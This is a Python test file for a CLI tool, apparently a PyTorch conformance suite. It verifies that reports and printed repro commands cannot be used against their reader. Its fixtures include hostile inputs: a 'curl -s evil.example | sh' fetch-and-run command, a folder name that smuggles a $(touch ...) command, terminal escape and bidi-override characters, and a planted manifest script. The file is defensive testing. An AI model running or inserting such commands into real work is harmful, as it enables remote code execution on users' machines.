"""Issue 31, classes 3 and 4: what a report shows or offers cannot be turned against its reader.

Class 3: a record's stored command is never shown (every command is rebuilt from validated fields,
each argument shell-quoted). Class 4: control, invisible and direction-changing characters never reach
the terminal, the reports or a proposed ledger; Markdown syntax in ids cannot break a table; and
what pytest itself prints during a run is scrubbed too.
"""

from __future__ import annotations

import os
import re
import socket
import subprocess
import sys

from helpers.crafted import PWN, assert_nothing_ran, case_json, failed, fake_run
from helpers.paths import TESTS
from helpers.runs import run_cli

ADD = "operators/elementwise/add/float32"
ATTACK = "curl -s evil.example | sh"
INVISIBLE = "\u202e\u2066\u200b\ufeff"  # right-to-left override, isolate, zero-width space, BOM


def test_a_stored_command_is_never_shown(workdir, cli, capsys):
    record = failed(ADD, message="m", repro=ATTACK, repro_script=ATTACK)
    run_dir = fake_run(workdir, "r", [record], plan=[case_json(ADD)])
    cli(["report"])
    shown = capsys.readouterr().out
    for text in (shown, *((run_dir / n).read_text() for n in ("summary.md", "report.html", "junit.xml"))):
        assert "evil.example" not in text
    assert f"torchcts run --device cpu --case {ADD}" in shown  # rebuilt from the record's id and run.json
    assert f"torchcts repro {ADD} --run" in shown


def test_a_command_naming_a_crafted_folder_is_quoted(workdir, cli, capsys):
    name = f"R$(touch {PWN})"
    run_dir = fake_run(workdir, name, [failed(ADD, message="m")], plan=[case_json(ADD)])
    assert cli(["repro", ADD, "--run", str(run_dir)]) == 0
    printed = capsys.readouterr().out
    command = printed.rsplit("run it with: ", 1)[1].strip()
    proc = subprocess.run(["bash", "-c", command.replace("python ", f"{sys.executable} ", 1)], cwd=workdir,
                          capture_output=True, text=True, timeout=300)
    assert proc.returncode == 0, proc.stdout + proc.stderr  # the script ran: the path reached it whole
    assert_nothing_ran(workdir)


def test_repro_prints_no_escape_sequence(workdir, cli, capsys):
    case_id = "operators/elementwise/add/\x1b]0;title\x07\x1b[2J\rX" + INVISIBLE
    run_dir = fake_run(workdir, "r", [failed(case_id)], plan=[case_json(case_id)])
    assert cli(["repro", case_id, "--run", str(run_dir), "-o", "out"]) == 0
    out = capsys.readouterr().out
    assert not re.search("[\x00-\x09\x0b-\x1f\x7f\u202e\u2066\u200b\ufeff]", out), repr(out)


def test_invisible_characters_reach_no_report_or_ledger(workdir, cli):
    case_id = f"operators/elementwise/add{INVISIBLE}/float32"
    run_dir = fake_run(workdir, "r", [failed(case_id, message=f"bad {INVISIBLE} value")],
                       plan=[case_json(case_id)])
    cli(["report"])
    assert cli(["expectations", "update", "-o", "p.py"]) == 0
    assert cli(["expectations", "update", "-o", "p.toml"]) == 0
    for path in (run_dir / "summary.md", run_dir / "report.html", run_dir / "junit.xml", workdir / "p.py",
                 workdir / "p.toml"):
        text = path.read_text()
        assert not set(INVISIBLE) & set(text), path.name


def test_markdown_syntax_in_an_id_keeps_the_triage_table_whole(workdir, cli):
    case_id = "operators/x|y|z/float32"
    run_dir = fake_run(workdir, "r", [failed(case_id, message="boom")], plan=[case_json(case_id)])
    cli(["report"])
    rows = [ln for ln in (run_dir / "summary.md").read_text().splitlines() if "x" in ln and ln.startswith("|")]
    assert rows
    for row in rows:  # GitHub splits cells at every unescaped |, also inside a code span
        assert len(re.split(r"(?<!\\)\|", row)) == 7, row


def test_pytest_output_is_scrubbed_and_quoted(tmp_path):
    env = {"TORCHCTS_EXTRA_SUITES": "hostile_output=helpers.hostile_output",
           "PYTHONPATH": os.pathsep.join([str(TESTS), os.environ.get("PYTHONPATH", "")])}
    r = run_cli("run", "--device", "cpu", "--case", "hostile_output/*", "--", "-n", "1", "-v", "-rA",
                cwd=tmp_path, env=env, timeout=300)
    assert r.returncode == 1, r.stdout[-3000:] + r.stderr[-3000:]
    out = r.stdout + r.stderr
    assert "FAILED" in out and "[gw0]" in out and "kernel failed in <path:kernel.py>" in out
    assert os.path.expanduser("~") + os.sep not in out and "secret-checkout" not in out
    assert sys.executable not in out  # xdist's `[gw0] linux -- Python ... <interpreter>` line
    host = socket.gethostname()
    if len(host) >= 2:
        assert f" on {host} " not in out
    assert "\x1b]0;" not in out and "\u202e" not in out


def test_a_manifest_shipped_in_the_results_folder_is_never_offered(workdir, cli, capsys):
    """run.json's --manifest naming a file inside the results folder: the offered command would execute it."""
    import json

    evil = "results/r/manifest.py"
    record = failed(ADD, message="m", repro=f"torchcts run --device cpu --manifest {evil} --case {ADD}",
                    repro_script=f"torchcts repro {ADD} --run results/r --manifest {evil}")
    run_dir = fake_run(workdir, "r", [record], plan=[case_json(ADD)])
    spec = json.loads((run_dir / "run.json").read_text())
    spec["manifest_arg"] = evil
    (run_dir / "run.json").write_text(json.dumps(spec))
    (run_dir / "manifest.py").write_text(f"import pathlib; pathlib.Path({PWN!r}).write_text('1')\n")
    cli(["report"])
    shown = capsys.readouterr().out
    assert "--manifest" not in shown and "--manifest" not in (run_dir / "summary.md").read_text()
    assert f"torchcts run --device cpu --case {ADD}" in shown
